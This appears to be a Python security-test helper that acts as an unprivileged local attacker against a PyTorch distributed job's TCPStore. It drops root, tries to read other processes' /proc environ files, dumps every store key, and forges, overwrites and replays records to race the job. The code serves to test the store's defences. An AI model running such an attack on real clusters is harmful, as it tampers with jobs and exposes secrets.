"""A hostile local user against a running job's rendezvous store.

Run as root, it loads torch, then drops to uid/gid ``nobody`` for good (the
same setresuid/setresgid ``setpriv`` performs; the interpreter lives in a
directory ``nobody`` cannot enter, so the drop happens after the imports).
From then on it is an unprivileged process that knows the store's address and
nothing else: it lists and reads every key, then writes what it is told to.

Usage: ``python -m tests.security.attacker SPEC.json`` -> JSON report on stdout.

Spec fields: ``host``, ``port``, ``seconds`` (how long to keep attacking),
``forge``: list of ``{"suffix": ..., "value": ...}`` written under every
generation prefix seen, ``overwrite``: list of ``{"suffix": ..., "value": ...}``
written over existing keys ending in ``suffix`` again and again (races a
reader), ``copy``: list of ``{"from": suffix, "to": suffix}`` (replay a valid
record into another key, again and again), ``pids``: processes whose environment to try to read.
"""

from __future__ import annotations

import base64
import datetime
import json
import os
import re
import sys
import time

import torch.distributed as dist

NOBODY = 65534


def drop_privileges() -> None:
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    if os.geteuid() == 0 or os.getegid() == 0:
        raise SystemExit("could not drop root privileges")


def main() -> int:
    spec = json.load(open(sys.argv[1]))
    drop_privileges()
    report = {"uid": os.getuid(), "keys": {}, "wrote": [], "errors": [], "environ": {}}
    for pid in spec.get("pids", []):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                report["environ"][pid] = base64.b64encode(f.read()).decode()
        except OSError as exc:
            report["environ"][pid] = f"refused: {exc.strerror}"
    store = dist.TCPStore(spec["host"], spec["port"], 1, False,
                          timeout=datetime.timedelta(seconds=10))
    end = time.monotonic() + spec.get("seconds", 5.0)
    copied = set()
    while True:
        try:
            keys = store.list_keys()
        except Exception as exc:  # the job (and its store) ended
            report["errors"].append(f"list_keys: {exc}")
            break
        for key in keys:
            if key not in report["keys"]:
                try:
                    report["keys"][key] = base64.b64encode(store.get(key)).decode()
                except Exception as exc:
                    report["errors"].append(f"get {key}: {exc}")
        prefixes = {m.group(1) for k in keys for m in [re.match(r"(.*?gen\d+/+)", k)] if m}
        try:
            for item in spec.get("forge", []):
                for prefix in prefixes:
                    target = prefix + item["suffix"]
                    if target not in report["wrote"]:
                        store.set(target, item["value"])
                        report["wrote"].append(target)
            for item in spec.get("overwrite", []):
                for key in keys:
                    if key.endswith(item["suffix"]):
                        store.set(key, base64.b64decode(item["value"]))
                        if key not in report["wrote"]:
                            report["wrote"].append(key)
            for item in spec.get("copy", []):
                sources = [k for k in keys if k.endswith(item["from"])]
                for source in sources:  # again and again: it must land after the real write
                    target = source[: -len(item["from"])] + item["to"]
                    store.set(target, store.get(source))
                    if target not in copied:
                        copied.add(target)
                        report["wrote"].append(target)
        except Exception as exc:  # the job ended and took its store with it
            report["errors"].append(f"write: {exc}")
            break
        if time.monotonic() > end:
            break
        time.sleep(0.002)
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
